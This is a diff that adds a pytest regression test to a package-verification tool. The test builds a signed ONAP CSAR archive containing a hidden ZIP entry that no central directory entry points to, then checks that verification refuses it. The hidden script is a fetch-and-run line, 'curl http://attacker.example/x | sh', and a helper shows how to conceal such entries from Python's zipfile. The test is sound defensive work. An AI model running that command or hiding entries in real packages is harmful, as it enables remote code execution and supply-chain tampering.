@@ -496,3 +496,79 @@ def test_not_a_zip(tmp_path: Path) -> None:
     pol = policy(tmp_path, tmp_path / "missing.pem")
     result = invoke("verify", bad, "--policy", pol, "--at", AT)
     assert_error(result, ExitCode.INVALID_INPUT)
+
+
+def _hide(raw: bytes, entry: bytes, *, first: bool) -> bytes:
+    """``raw`` with a local entry no central directory entry points at: before the
+    directory, or first with every offset shifted (a well-formed ZIP for zipfile)."""
+    end = raw.rindex(b"PK\x05\x06")
+    size, start = (
+        int.from_bytes(raw[end + 12 : end + 16], "little"),
+        int.from_bytes(raw[end + 16 : end + 20], "little"),
+    )
+    if not first:
+        out = bytearray(raw[:start] + entry + raw[start:])
+    else:
+        out = bytearray(entry + raw)
+        at = len(entry) + start
+        while at < len(entry) + start + size:
+            n, m, k = (
+                int.from_bytes(out[at + i : at + i + 2], "little") for i in (28, 30, 32)
+            )
+            offset = int.from_bytes(out[at + 42 : at + 46], "little") + len(entry)
+            out[at + 42 : at + 46] = offset.to_bytes(4, "little")
+            at += 46 + n + m + k
+    moved = end + len(entry)
+    out[moved + 16 : moved + 20] = (start + len(entry)).to_bytes(4, "little")
+    return bytes(out)
+
+
+@pytest.mark.parametrize("first", [False, True], ids=["before-directory", "first"])
+def test_a_hidden_entry_in_a_signed_package_is_refused(
+    tmp_path: Path, *, first: bool
+) -> None:
+    """ONAP's valid package with an attacker's script no directory entry points at.
+
+    Java's ZipInputStream (a streaming reader) extracts it; vendorproof verified the
+    package before the layout check (docs/sol004.md, "Reading ZIP archives").
+    """
+    import zlib
+
+    package, cert = _onap_cert()
+    script = b"#!/bin/sh\ncurl http://attacker.example/x | sh\n"
+    name = b"Files/Scripts/my_script.sh"
+    local = (
+        b"PK\x03\x04\x14\x00\x00\x00\x00\x00\x00\x00\x21\x00"
+        + zlib.crc32(script).to_bytes(4, "little")
+        + len(script).to_bytes(4, "little") * 2
+        + len(name).to_bytes(2, "little")
+        + b"\x00\x00"
+        + name
+        + script
+    )
+    hidden = tmp_path / "hidden.csar"
+    hidden.write_bytes(_hide(package.read_bytes(), local, first=first))
+    with zipfile.ZipFile(hidden) as z:  # zipfile reads it, the hidden file unseen
+        assert z.namelist() == zipfile.ZipFile(package).namelist()
+    anchor = tmp_path / "onap.pem"
+    anchor.write_bytes(cert.public_bytes(Encoding.PEM))
+    pol = policy(
+        tmp_path,
+        anchor,
+        vendor_id="Acme",
+        subject=cert.subject.rfc4514_string(),
+        profile="legacy",
+    )
+    at = "2020-09-25T00:00:00Z"
+    assert verify_json(package, pol, at)[0] == ExitCode.OK
+    result = invoke("verify", hidden, "--policy", pol, "--at", at)
+    assert_error(
+        result, ExitCode.INVALID_INPUT, "hidden.csar", "no member of the archive"
+    )
+    store = tmp_path / "evidence.db"
+    result = invoke(
+        "intake", hidden, "--policy", pol, "--operator-key", OP_KEY,
+        "--store", store, "--at", at,
+    )  # fmt: skip
+    assert result.exit_code == ExitCode.VERIFICATION_FAILED, result.output
+    assert "verdict: FAILED" in result.stdout
